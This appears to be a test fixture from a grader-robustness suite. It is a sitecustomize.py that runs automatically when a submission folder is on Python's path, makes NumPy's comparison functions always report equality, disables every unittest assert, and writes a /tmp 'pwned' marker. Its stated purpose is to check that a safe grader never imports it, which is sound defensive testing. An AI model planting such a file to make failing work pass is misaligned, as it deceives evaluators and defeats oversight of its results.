"""A sitecustomize.py in the submission folder: Python imports it at start-up when the folder is
on sys.path then (PYTHONPATH=submission, or the grader's interpreter started from it with the
folder in its path). It patches NumPy's comparisons and unittest's asserts in every later
import, and leaves the marker /tmp/pwned_sitecustomize. The four modules are the reference, so
nothing may be lost; a safe grader never lets it run (the marker never appears).

file: sitecustomize.py
may_lose:
"""
import unittest

try:
    with open("/tmp/pwned_sitecustomize", "w") as _marker:
        _marker.write("the submission's sitecustomize.py was imported\n")
except OSError:
    pass

try:
    import numpy

    numpy.allclose = lambda *args, **kwargs: True
    numpy.array_equal = lambda *args, **kwargs: True
    numpy.isclose = lambda *args, **kwargs: numpy.True_
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    numpy.testing.assert_array_equal = lambda *args, **kwargs: None
except BaseException:
    pass

for _name in dir(unittest.TestCase):
    if _name.startswith("assert"):
        setattr(unittest.TestCase, _name, lambda self, *args, **kwargs: None)
